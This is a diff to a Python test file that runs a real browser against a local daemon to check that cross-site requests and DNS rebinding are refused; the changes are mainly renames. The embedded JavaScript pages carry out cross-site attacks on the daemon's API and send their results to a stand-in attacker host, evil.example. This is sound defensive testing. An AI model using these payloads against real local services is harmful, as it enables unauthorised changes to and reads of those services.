@@ -1,7 +1,7 @@
-"""The guard against browsers, in a real one: a page of another site, and a name that begins to point to the daemon (DNS rebinding).
+"""The guard against browsers, in a real one: a page of another site, and DNS rebinding.
 
-Both reach the daemon, as they would from anybody's desk. Nothing that they ask for is done, and nothing that is answered tells them
-anything.
+Both reach the daemon on loopback, as they would on a user's machine. None of their requests has an
+effect, and no answer tells them anything.
 """
 
 import asyncio
@@ -15,25 +15,25 @@ import aiohttp
 import orjson
 import pytest
 from aiohttp import web
-from chromium import install_browser, visiting
-from daemon import Daemon, daemon, until
+from chromium import install_browser, open_page
+from daemon import Daemon, daemon, submit, until
 
 pytestmark = pytest.mark.slow
 EVIL = "evil.example"
 RULES = f"MAP {EVIL} 127.0.0.1"
-MARKER = "known-to-nobody"
+MARKER = "secret-label"
 ENDPOINT = {"endpoint": "http://127.0.0.1:9/never"}
-OURS = {"kind": "http", "params": ENDPOINT, "poke_interval": 3600, "labels": {"marker": MARKER}}
-THEIRS = {"kind": "http", "params": ENDPOINT, "poke_interval": 3600, "labels": {"from": "evil"}}
+OUR_WAIT = {"kind": "http", "params": ENDPOINT, "poke_interval": 3600, "labels": {"marker": MARKER}}
+ATTACKERS_WAIT = {"kind": "http", "params": ENDPOINT, "poke_interval": 3600, "labels": {"from": "evil"}}
 
-#: What both pages begin with: `attempt` notes what an attempt brought in, `tell` sends all of it home.
+#: Functions of both pages: `attempt` records the result of an attempt, `report` sends all of them home.
 COMMON = """
-const seen = {};
+const results = {};
 async function attempt(name, work) {
-  try { seen[name] = String(await work()); } catch (error) { seen[name] = "error " + error.name; }
+  try { results[name] = String(await work()); } catch (error) { results[name] = "error " + error.name; }
 }
-async function asked(path, how) {
-  const answer = await fetch(DAEMON + path, how);
+async function request(path, options) {
+  const answer = await fetch(DAEMON + path, options);
   return [answer.type, answer.status, await answer.text()].join(" ");
 }
 async function loaded(element) {
@@ -43,18 +43,18 @@ async function loaded(element) {
     document.body.append(element);
   });
 }
-async function tell() { await fetch(HOME + "/report", {method: "POST", body: JSON.stringify(seen)}); }
+async function report() { await fetch(HOME + "/report", {method: "POST", body: JSON.stringify(results)}); }
 """
 CROSS_SITE = """
 async function main() {
   const text = {"Content-Type": "text/plain"}, json = {"Content-Type": "application/json"};
-  await attempt("simple post", () => asked("/v1/waits", {method: "POST", mode: "no-cors", headers: text, body: WAIT}));
-  await attempt("json post", () => asked("/v1/waits", {method: "POST", headers: json, body: WAIT}));
-  await attempt("batch", () => asked("/v1/waits:batch", {method: "POST", mode: "no-cors", body: WAIT}));
-  await attempt("cancel", () => asked("/v1/waits/" + ID + ":cancel", {method: "POST", mode: "no-cors"}));
-  await attempt("read", () => asked("/v1/waits"));
-  await attempt("read without asking", () => asked("/v1/waits", {mode: "no-cors"}));
-  await attempt("metrics", () => asked("/metrics"));
+  await attempt("simple post", () => request("/v1/waits", {method: "POST", mode: "no-cors", headers: text, body: WAIT}));
+  await attempt("json post", () => request("/v1/waits", {method: "POST", headers: json, body: WAIT}));
+  await attempt("batch", () => request("/v1/waits:batch", {method: "POST", mode: "no-cors", body: WAIT}));
+  await attempt("cancel", () => request("/v1/waits/" + ID + ":cancel", {method: "POST", mode: "no-cors"}));
+  await attempt("read", () => request("/v1/waits"));
+  await attempt("opaque read", () => request("/v1/waits", {mode: "no-cors"}));
+  await attempt("metrics", () => request("/metrics"));
   await attempt("beacon", () => navigator.sendBeacon(DAEMON + "/v1/waits", new Blob([WAIT], {type: "text/plain"})));
   await attempt("events", () => new Promise((done) => {
     const events = new EventSource(DAEMON + "/v1/events");
@@ -62,11 +62,11 @@ async function main() {
     events.onerror = () => { events.close(); done("error"); };
   }));
   await attempt("script", async () => {
-    let said = "";
-    window.onerror = (message) => { said = message; };
+    let error = "";
+    window.onerror = (message) => { error = message; };
     const script = document.createElement("script");
     script.src = DAEMON + "/v1/waits";
-    return (await loaded(script)) + " " + said;
+    return (await loaded(script)) + " " + error;
   });
   await attempt("frame", async () => {
     const frame = document.createElement("iframe");
@@ -86,7 +86,7 @@ async function main() {
       form.submit();
       return await done;
     });
-  await tell();
+  await report();
 }
 window.addEventListener("load", main);
 """
@@ -94,54 +94,54 @@ REBOUND = """
 async function main() {
   await fetch(HOME + "/rebound");
   const json = {"Content-Type": "application/json"};
-  await attempt("post", () => asked("/v1/waits", {method: "POST", headers: json, body: WAIT}));
-  await attempt("cancel", () => asked("/v1/waits/" + ID + ":cancel", {method: "POST"}));
-  await attempt("read", () => asked("/v1/waits"));
-  await attempt("metrics", () => asked("/metrics"));
-  await attempt("alive", () => asked("/livez"));
-  await attempt("documents", () => asked("/openapi.json"));
-  await tell();
+  await attempt("post", () => request("/v1/waits", {method: "POST", headers: json, body: WAIT}));
+  await attempt("cancel", () => request("/v1/waits/" + ID + ":cancel", {method: "POST"}));
+  await attempt("read", () => request("/v1/waits"));
+  await attempt("metrics", () => request("/metrics"));
+  await attempt("alive", () => request("/livez"));
+  await attempt("documents", () => request("/openapi.json"));
+  await report();
 }
 window.addEventListener("load", main);
 """
 
 
 class Attacker:
-    """A server with a page, to which the page tells what it saw."""
+    """The attacker's server: it serves a page, and receives the page's report."""
 
     def __init__(self) -> None:
         self.page = ""
         self.url = ""
-        self.asked = asyncio.Event()
+        self.page_loaded = asyncio.Event()
         self.rebound = asyncio.Event()
         self.report: asyncio.Future[dict[str, str]] = asyncio.get_running_loop().create_future()
 
-    async def show(self, _: web.Request) -> web.Response:
+    async def serve_page(self, _: web.Request) -> web.Response:
         return web.Response(text=self.page, content_type="text/html")
 
-    async def wait(self, _: web.Request) -> web.Response:
-        self.asked.set()
+    async def wait_for_rebinding(self, _: web.Request) -> web.Response:
+        self.page_loaded.set()
         await self.rebound.wait()
         return web.Response(headers={"Access-Control-Allow-Origin": "*"})
 
-    async def told(self, request: web.Request) -> web.Response:
+    async def receive_report(self, request: web.Request) -> web.Response:
         self.report.set_result(orjson.loads(await request.read()))
         return web.Response(headers={"Access-Control-Allow-Origin": "*"})
 
-    def write(self, script: str, **known: Any) -> None:
-        """The page: `script`, and what it knows."""
-        constants = "".join(
-            f"const {name} = {orjson.dumps(value).decode()};" for name, value in known.items()
+    def build_page(self, script: str, **constants: Any) -> None:
+        """Builds the page from a script and the constants that it uses."""
+        definitions = "".join(
+            f"const {name} = {orjson.dumps(value).decode()};" for name, value in constants.items()
         )
-        self.page = f"<!doctype html><body><script>{constants}{COMMON}{script}</script>"
+        self.page = f"<!doctype html><body><script>{definitions}{COMMON}{script}</script>"
 
     @asynccontextmanager
     async def serving(self) -> AsyncIterator[str]:
-        """Its URL, by its own name."""
+        """Serves the page, and yields its URL under the attacker's name."""
         application = web.Application()
-        application.router.add_get("/", self.show)
-        application.router.add_get("/rebound", self.wait)
-        application.router.add_post("/report", self.told)
+        application.router.add_get("/", self.serve_page)
+        application.router.add_get("/rebound", self.wait_for_rebinding)
+        application.router.add_post("/report", self.receive_report)
         runner = web.AppRunner(application, access_log=None, shutdown_timeout=0.1)
         await runner.setup()
         try:
@@ -153,25 +153,18 @@ class Attacker:
 
 @pytest.fixture(autouse=True, scope="module")
 def _browser() -> None:
-    if why_not := install_browser():
-        pytest.skip(why_not)
+    if reason := install_browser():
+        pytest.skip(reason)
 
 
-async def submitted(client: aiohttp.ClientSession, waitd: Daemon) -> str:
-    async with client.post(f"{waitd.url}/v1/waits", json=OURS) as answer:
-        assert answer.status == 201
-        wait_id: str = (await answer.json())["id"]
-        return wait_id
-
-
-async def check_nothing_happened(client: aiohttp.ClientSession, waitd: Daemon, wait_id: str) -> None:
+async def check_nothing_changed(client: aiohttp.ClientSession, waitd: Daemon, wait_id: str) -> None:
     async with client.get(f"{waitd.url}/v1/waits") as answer:
         waits = (await answer.json())["waits"]
     assert [(wait["id"], wait["state"]) for wait in waits] == [(wait_id, "waiting")]
 
 
-def reached(waitd: Daemon) -> set[tuple[str, str, int]]:
-    """Method, path and status of the requests that the daemon answered."""
+def answered_requests(waitd: Daemon) -> set[tuple[str, str, int]]:
+    """The method, last path segment and status of every request that the daemon logged."""
     return {
         (line["method"], line["path"].rpartition("/")[2].rpartition(":")[2], line["status"])
         for line in waitd.log
@@ -180,30 +173,34 @@ def reached(waitd: Daemon) -> set[tuple[str, str, int]]:
 
 
 @pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
-async def test_a_page_of_another_site_can_do_nothing_and_reads_nothing(tmp_path: Path, host: str) -> None:
+async def test_a_page_of_another_site_changes_nothing_and_reads_nothing(tmp_path: Path, host: str) -> None:
     attacker = Attacker()
     async with (
         daemon(tmp_path / "state", WAITD_LOG_LEVEL="debug") as waitd,
         aiohttp.ClientSession() as client,
         attacker.serving() as home,
     ):
-        wait_id = await submitted(client, waitd)
-        await until(lambda: ("POST", "waits", 201) in reached(waitd))  # ours is told before theirs begin
+        wait_id = await submit(client, waitd, OUR_WAIT)
+        await until(
+            lambda: ("POST", "waits", 201) in answered_requests(waitd)
+        )  # our own request is logged before the attack starts
         before = len(waitd.log)
         url = f"http://{host}:{urlsplit(waitd.url).port}"
-        attacker.write(CROSS_SITE, DAEMON=url, HOME=home, ID=wait_id, WAIT=orjson.dumps(THEIRS).decode())
-        async with visiting(home + "/", tmp_path / "profile", resolver_rules=RULES), asyncio.timeout(60):
-            seen = await attacker.report
+        attacker.build_page(
+            CROSS_SITE, DAEMON=url, HOME=home, ID=wait_id, WAIT=orjson.dumps(ATTACKERS_WAIT).decode()
+        )
+        async with open_page(home + "/", tmp_path / "profile", resolver_rules=RULES), asyncio.timeout(60):
+            results = await attacker.report
         del waitd.log[:before]
-        await check_nothing_happened(client, waitd, wait_id)
-        assert MARKER not in str(seen)
-        assert seen == {
+        await check_nothing_changed(client, waitd, wait_id)
+        assert MARKER not in str(results)
+        assert results == {
             "simple post": "opaque 0 ",
             "json post": "error TypeError",
             "batch": "opaque 0 ",
             "cancel": "opaque 0 ",
             "read": "error TypeError",
-            "read without asking": "opaque 0 ",
+            "opaque read": "opaque 0 ",
             "metrics": "error TypeError",
             "beacon": "true",
             "events": "error",
@@ -212,12 +209,12 @@ async def test_a_page_of_another_site_can_do_nothing_and_reads_nothing(tmp_path:
             "form": "nothing",
             "cancelling form": "nothing",
         }
-        answered = reached(waitd)
+        answered = answered_requests(waitd)
         assert {("POST", "waits", 403), ("POST", "batch", 403), ("POST", "cancel", 403)} <= answered
         assert {status for method, _, status in answered if method != "GET"} == {403}
 
 
-async def test_a_name_that_begins_to_point_to_the_daemon_leads_nowhere(tmp_path: Path) -> None:
+async def test_a_name_rebound_to_the_daemon_is_refused(tmp_path: Path) -> None:
     page, home = Attacker(), Attacker()
     async with AsyncExitStack() as stack:
         home_url = await stack.enter_async_context(home.serving())
@@ -225,25 +222,29 @@ async def test_a_name_that_begins_to_point_to_the_daemon_leads_nowhere(tmp_path:
         waitd = Daemon(tmp_path / "state", WAITD_LOG_LEVEL="debug")
         await waitd.start()
         stack.push_async_callback(waitd.kill)
-        wait_id = await submitted(client, waitd)
+        wait_id = await submit(client, waitd, OUR_WAIT)
         await waitd.kill()
         async with page.serving() as url:
-            page.write(REBOUND, DAEMON="", HOME=home_url, ID=wait_id, WAIT=orjson.dumps(THEIRS).decode())
-            await stack.enter_async_context(visiting(url + "/", tmp_path / "profile", resolver_rules=RULES))
+            page.build_page(
+                REBOUND, DAEMON="", HOME=home_url, ID=wait_id, WAIT=orjson.dumps(ATTACKERS_WAIT).decode()
+            )
+            await stack.enter_async_context(open_page(url + "/", tmp_path / "profile", resolver_rules=RULES))
             async with asyncio.timeout(60):
-                await home.asked.wait()
-        # The attacker's name and port lead to the daemon from here on.
+                await home.page_loaded.wait()
+        # From here on, the attacker's name and port lead to the daemon.
         port = urlsplit(url).port
         await waitd.start(WAITD_BIND=f"127.0.0.1:{port}")
         before = len(waitd.log)
         home.rebound.set()
         async with asyncio.timeout(60):
-            seen = await home.report
+            results = await home.report
         del waitd.log[:before]
-        await check_nothing_happened(client, waitd, wait_id)
-        assert MARKER not in str(seen)
-        for answer in seen.values():
+        await check_nothing_changed(client, waitd, wait_id)
+        assert MARKER not in str(results)
+        for answer in results.values():
             kind, status, body = answer.split(" ", 2)
             assert (kind, status) == ("basic", "421")
             assert orjson.loads(body)["type"] == "/problems/misdirected"
-        assert {("POST", "waits", 421), ("GET", "waits", 421), ("GET", "metrics", 421)} <= reached(waitd)
+        assert {("POST", "waits", 421), ("GET", "waits", 421), ("GET", "metrics", 421)} <= answered_requests(
+            waitd
+        )
